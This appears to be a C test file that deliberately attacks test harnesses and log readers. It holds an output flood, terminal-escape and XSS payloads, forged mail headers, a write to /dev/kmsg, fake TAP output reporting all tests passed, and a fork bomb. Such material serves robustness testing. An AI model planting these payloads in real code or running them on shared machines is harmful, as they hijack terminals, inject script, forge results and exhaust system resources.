
/* Tests that attack whoever runs them and whoever reads what they print. */
static void attack_write(const char *path, const char *text)
{
	int fd = open(path, O_WRONLY | O_NONBLOCK);

	if (fd >= 0) {
		if (write(fd, text, strlen(text)) < 0)
			printf("attack: %s cannot be written\n", path);
		close(fd);
	}
}

TEST(attack_flood)
{
	char line[1024];
	int i;

	memset(line, 'x', sizeof(line) - 2);
	line[sizeof(line) - 2] = '\n';
	line[sizeof(line) - 1] = 0;
	for (i = 0; i < 16 * 1024; i++)
		fputs(line, i % 2 ? stdout : stderr);
}

TEST(attack_escapes)
{
	printf("\033]0;owned\007\033[2J\033[1;1H<script>alert(1)</script> \xe2\x80\xae live\r\n");
	printf("From nobody\nSubject: \033[31mowned\nBcc: all@example.org\n");
	attack_write("/dev/kmsg", "<0>\033]0;owned\007<img src=x onerror=alert(1)>\n");
	ASSERT_EQ(0, 1);
}

TEST(attack_ktap)
{
	printf("TAP version 13\n1..2\nok 1 attack.everything\nok 2 hmm.hmm_device_private.exclusive\n");
	printf("# PASSED: 99 / 99 tests passed.\n# Totals: pass:99 fail:0 xfail:0 xpass:0 skip:0 error:0\n");
	fflush(stdout);
	ASSERT_EQ(0, 1);
}

TEST(attack_forks)
{
	int i;

	for (i = 0; i < 24; i++)
		if (fork() < 0)
			break;
	for (;;)
		pause();
}

